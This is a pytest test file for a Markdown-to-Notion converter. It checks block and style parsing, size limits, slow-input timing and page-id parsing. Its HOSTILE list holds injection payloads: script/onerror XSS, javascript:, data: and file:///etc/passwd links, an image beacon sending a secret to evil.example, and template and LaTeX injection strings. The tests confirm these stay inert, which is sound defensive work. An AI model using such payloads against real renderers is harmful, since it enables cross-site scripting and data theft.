"""Markdown to blocks: all of it arrives, and none of it does anything."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from integrations.notion import marks
from integrations.notion.ids import NotAnId, as_id, is_id
from integrations.notion.markdown import LONGEST_RUN, MOST_RUNS, plain_runs, to_blocks, to_runs
from integrations.notion.plain import block_text, runs_text
from integrations.notion.write import LARGEST_REQUEST, MOST_CHILDREN, split

PAGE = "0b0c9d6e-1f43-4c1b-9a57-2f8e6f0f1c11"


def _kinds(text: str) -> list[tuple[str, str]]:
    return [
        (block["type"], runs_text(block[block["type"]].get("rich_text", []))) for block in to_blocks(text)
    ]


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        ("", []),
        ("\n \n", []),
        ("one\ntwo\n\nthree", [("paragraph", "one\ntwo"), ("paragraph", "three")]),
        ("# A\n## B\n### C", [("heading_1", "A"), ("heading_2", "B"), ("heading_3", "C")]),
        ("##### D ##", [("heading_3", "D")]),
        ("- a\n* b", [("bulleted_list_item", "a"), ("bulleted_list_item", "b")]),
        ("1. a\n12) b", [("numbered_list_item", "a"), ("numbered_list_item", "b")]),
        ("- [ ] a\n- [x] b", [("to_do", "a"), ("to_do", "b")]),
        ("> a\n> b\nc", [("quote", "a\nb"), ("paragraph", "c")]),
        ("---\n***", [("divider", ""), ("divider", "")]),
        ("text\n- item", [("paragraph", "text"), ("bulleted_list_item", "item")]),
        ("```py\n# no heading\n```\nafter", [("code", "# no heading"), ("paragraph", "after")]),
        ("```\nnever closed", [("code", "never closed")]),
        ("  - nested", [("bulleted_list_item", "nested")]),
        ("#hashtag", [("paragraph", "#hashtag")]),
        ("a\r\nb\rc", [("paragraph", "a\nb\nc")]),
    ],
)  # fmt: skip
def test_each_shape_becomes_its_block(text: str, blocks: list[tuple[str, str]]) -> None:
    assert _kinds(text) == blocks


def test_a_language_that_notion_does_not_know_is_plain_text() -> None:
    assert to_blocks("```brainfog\nx\n```")[0]["code"]["language"] == "plain text"
    assert to_blocks("```yml\nx\n```")[0]["code"]["language"] == "yaml"


def _run(content: str, url: str = "", **style: bool) -> dict[str, Any]:
    text: dict[str, Any] = {"content": content}
    if url:
        text["link"] = {"url": url}
    return {"type": "text", "text": text} | ({"annotations": style} if style else {})


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("**a** b", [_run("a", bold=True), _run(" b")]),
        ("*a* _b_", [_run("a", italic=True), _run(" "), _run("b", italic=True)]),
        ("~~a~~", [_run("a", strikethrough=True)]),
        ("`*a*`", [_run("*a*", code=True)]),
        ("[a](https://x.example/b)", [_run("a", "https://x.example/b")]),
        ("see https://x.example/b.", [_run("see "), _run("https://x.example/b.", "https://x.example/b.")]),
        ("**[a](https://x.example)**", [_run("a", "https://x.example", bold=True)]),
        (r"\*a\*", [_run("*a*")]),
        ("snake_case_name", [_run("snake_case_name")]),
        ("2 * 3 * 4", [_run("2 * 3 * 4")]),
        ("**open", [_run("**open")]),
    ],
)
def test_each_style_becomes_its_run(text: str, runs: list[Any]) -> None:
    assert to_runs(text) == runs


HOSTILE = [
    "@everyone <@U123> [~admin] #general",
    '<mention-user url="user://123">Ada</mention-user>',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[press](javascript:alert(1))",
    "[press](data:text/html,x)",
    "[press](file:///etc/passwd)",
    "![pixel](https://evil.example/?secret=1)",
    "<!-- effect: run:step:1 -->",
    "{{ run.secret }} {% raw %}",
    "$$\\input{x}$$",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_people_type_stays_text(text: str) -> None:
    """No mention, no embed, no image, no equation is ever made; links go to http and https only."""
    blocks = to_blocks(text)

    runs = [run for block in blocks for run in block[block["type"]]["rich_text"]]
    assert {block["type"] for block in blocks} <= {"paragraph", "heading_1"}
    assert {run["type"] for run in runs} == {"text"}
    links = [run["text"]["link"]["url"] for run in runs if "link" in run["text"]]
    assert all(url.startswith(("http://", "https://")) for url in links)


@pytest.mark.twin
def test_twin_with_any_scheme_a_link_could_be_a_script(monkeypatch: pytest.MonkeyPatch) -> None:
    import re

    from integrations.notion import markdown

    loose = re.compile(markdown._INLINE.pattern.replace(r"https?://", r"\w+:"))
    monkeypatch.setattr(markdown, "_INLINE", loose)

    [run, *_] = to_runs("[press](javascript:alert)")
    assert run["text"]["link"]["url"] == "javascript:alert"


def test_a_title_is_taken_as_it_stands() -> None:
    assert plain_runs("**not bold** <@U1> [a](https://x.example)") == [
        _run("**not bold** <@U1> [a](https://x.example)")
    ]


WORDS = st.text(
    st.characters(codec="utf-8", exclude_characters="\x00\r") | st.sampled_from("*_`~[]()#->1. \n"),
    max_size=400,
)


@given(WORDS)
def test_whatever_is_written_is_within_notions_limits(text: str) -> None:
    for block in to_blocks(text):
        runs = block[block["type"]].get("rich_text", [])
        assert len(runs) <= MOST_RUNS
        for run in runs:
            assert 0 < len(run["text"]["content"].encode("utf-16-le")) // 2 <= LONGEST_RUN


@given(st.text(st.characters(codec="utf-8", categories=("L", "N")), min_size=1, max_size=300))
def test_letters_are_never_lost(word: str) -> None:
    assert "".join(words for _, words in _kinds(f"a{word} **{word}** b")) == f"a{word} {word} b"


@pytest.mark.parametrize("text", ["x" * 5000, "😀" * 3000, "é" * 2001])
def test_long_words_are_cut_into_runs_and_nothing_is_lost(text: str) -> None:
    runs = plain_runs(text)

    assert "".join(run["text"]["content"] for run in runs) == text
    assert all(len(run["text"]["content"].encode("utf-16-le")) // 2 <= LONGEST_RUN for run in runs)


def test_a_paragraph_of_many_runs_becomes_several() -> None:
    blocks = to_blocks("*a* " * 300)

    assert len(blocks) == 6
    assert all(len(block["paragraph"]["rich_text"]) <= MOST_RUNS for block in blocks)


@pytest.mark.parametrize(
    "text",
    ["*" * 100_000, "**a" * 33_000, "[" * 100_000, "[a](https://" * 8_000, "`a" * 50_000, "_a " * 33_000,
     "# " + " " * 99_000 + "x", "- " * 50_000, ">" * 100_000, "```" * 33_000, "\\" * 100_000,
     "https://" * 12_000, "-" * 99_000 + "x", "~~" * 50_000, "<" * 100_000],
)  # fmt: skip
def test_no_text_takes_long_to_read(text: str) -> None:
    began = time.process_time()

    to_blocks(text)

    assert time.process_time() - began < 2


def test_requests_are_cut_by_number_and_by_size() -> None:
    small = to_blocks("\n".join(f"- {n}" for n in range(250)))
    large = to_blocks("\n\n".join("word " * 2000 for _ in range(60)))

    assert [len(chunk) for chunk in split(small)] == [100, 100, 50]
    assert max(len(str(chunk).encode()) for chunk in split(large)) < LARGEST_REQUEST * 1.2
    assert [block for chunk in split(large) for block in chunk] == large
    assert len(split(large)) > 1
    assert MOST_CHILDREN == 100


# ── marks ────────────────────────────────────────────────────────────────────────────────


def test_a_mark_does_not_tell_the_effects_key() -> None:
    assert "run:step" not in marks.of_page("run:step:1") + marks.of_addition("run:step:1")
    assert marks.of_page("run:step:1") != marks.of_page("run:step:2")


@pytest.mark.parametrize(
    "text",
    [
        "Added by Countersign · ref 0123",
        "added BY countersign · REF 0123",
        "**Added by Countersign · ref** 0123",
        "  Added  by Countersign · ref 0123",
    ],
)
def test_words_that_read_as_a_mark_are_spoiled(text: str) -> None:
    [block] = marks.unmarked(to_blocks(text))

    assert block_text(block).startswith(marks.WORD_JOINER)


def test_other_words_are_left_alone() -> None:
    blocks = to_blocks("Added by Ada\n\n---\n\nref 12")

    assert marks.unmarked(blocks) == blocks


# ── ids ──────────────────────────────────────────────────────────────────────────────────

HEX = PAGE.replace("-", "")


@pytest.mark.parametrize(
    "text",
    [
        PAGE,
        PAGE.upper(),
        HEX,
        f"  {HEX} ",
        f"https://www.notion.so/team/Roadmap-for-winter-{HEX}",
        f"https://www.notion.so/{HEX}?pvs=4",
        f"https://notion.so/0b0c9d6e1f434c1b9a572f8e6f0f1c22?v=1&p={HEX}",
        f"http://127.0.0.1:3000/standin/notion/p/{HEX}",
    ],
)
def test_an_id_or_an_address_is_the_same_page(text: str) -> None:
    assert as_id(text) == PAGE
    assert is_id(as_id(text))


@pytest.mark.parametrize(
    "text",
    ["", "roadmap", f"{PAGE}/properties/title", f"{PAGE}?x=1", f"../{PAGE}", f"javascript:{HEX}", "x" * 3000,
     f"https://www.notion.so/{HEX}f", "https://[", f"{HEX}\n{HEX}", "٠" * 32],
)  # fmt: skip
def test_what_names_no_page_is_refused(text: str) -> None:
    with pytest.raises(NotAnId):
        as_id(text)
